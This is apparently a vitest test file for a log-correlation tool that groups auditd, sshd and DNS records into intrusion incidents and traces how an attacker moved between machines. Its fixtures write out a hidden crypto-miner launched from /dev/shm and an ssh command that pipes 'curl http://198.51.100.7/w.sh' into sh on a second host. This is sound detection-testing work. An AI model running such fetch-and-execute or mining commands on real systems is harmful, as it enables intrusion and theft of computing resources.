import { expect, test } from 'vitest';
import { investigatedFiles } from './investigated-files.ts';

const ran = (host: string, at: string, pid: number, argv: readonly string[]): readonly string[] => {
  const head = (type: string) =>
    `node=${host} type=${type} msg=audit(${Date.parse(`2026-08-19T${at}Z`) / 1000}.000:${pid}):`;
  const told = argv.map(
    (arg, index) => `a${index}=${/[ "']/.test(arg) ? Buffer.from(arg).toString('hex').toUpperCase() : `"${arg}"`}`,
  );
  return [
    `${head('SYSCALL')} arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=60 pid=${pid} auid=1007 uid=1007 gid=1007 euid=1007 tty=(none) ses=4 comm="x" exe="${argv[0]}" key="exec"\u001dAUID="dev" UID="dev"`,
    `${head('EXECVE')} argc=${argv.length} ${told.join(' ')}`,
  ];
};
const signedIn = (host: string, at: string, user: string, from: string): string =>
  `2026-08-19T${at}.000000+00:00 ${host} sshd[900]: Accepted publickey for ${user} from ${from} port 40022 ssh2: ED25519 SHA256:${user}${host}`;
const asked = (at: string, address: string): string =>
  `2026-08-19T${at}.120Z queries: info: client @0x7f0000000001 ${address}#40211 (pool.example.net): query: pool.example.net IN A +E(0)K (192.0.2.53)`;
const mines = (host: string, at: string, pid: number) =>
  ran(host, at, pid, ['/dev/shm/.x/run4', '-o', 'pool.example.net:3333', '--donate-level=1']);
const first = (target: string) => [
  ...mines('app-1', '10:00:10', 11),
  ...ran('app-1', '10:00:20', 12, [
    '/usr/bin/ssh',
    '-oBatchMode=yes',
    `deploy@${target}`,
    'curl -s http://198.51.100.7/w.sh|sh',
  ]),
];
const second = [
  signedIn('app-2', '08:00:00', 'deploy', '198.51.100.90'),
  signedIn('app-2', '10:00:21', 'deploy', '192.0.2.11'),
];
const mined = mines('app-2', '10:00:40', 21).map((line) =>
  line.replaceAll('dev', 'deploy').replaceAll('/deploy/', '/dev/'),
);

test('who crosses from a machine to another by a command of his is one intrusion', async () => {
  const { incidents } = await investigatedFiles('crossed', [
    {
      'a.log': [...first('192.0.2.12'), signedIn('app-1', '10:00:00', 'dev', '203.0.113.66')].filter((line) =>
        line.startsWith('node'),
      ),
      'a.auth': [signedIn('app-1', '10:00:00', 'dev', '203.0.113.66')],
      'b.auth': second,
      'b.log': mined,
      'named.log': [asked('10:00:10', '192.0.2.11'), asked('10:00:40', '192.0.2.12')],
    },
  ]);
  expect(incidents.map(({ title }) => title)).toHaveLength(1);
  expect(incidents[0]?.entry?.address).toBe('203.0.113.66');
});

test('a sign-in from elsewhere at that moment is not his', async () => {
  const { incidents } = await investigatedFiles('apart', [
    {
      'a.log': first('192.0.2.77'),
      'a.auth': [signedIn('app-1', '10:00:00', 'dev', '203.0.113.66')],
      'b.auth': second.map((line) => line.replace('192.0.2.11', '192.0.2.200')),
      'b.log': mined,
      'named.log': [asked('10:00:10', '192.0.2.11'), asked('10:00:40', '192.0.2.12')],
    },
  ]);
  expect(incidents).toHaveLength(2);
});

test('where no record tells the address of either machine, the name and the moment join', async () => {
  const { incidents } = await investigatedFiles('untold', [
    {
      'a.log': first('192.0.2.12'),
      'a.auth': [signedIn('app-1', '10:00:00', 'dev', '203.0.113.66')],
      'b.auth': second,
      'b.log': mined,
    },
  ]);
  expect(incidents.map(({ entry }) => entry?.address)).toEqual(['203.0.113.66']);
});
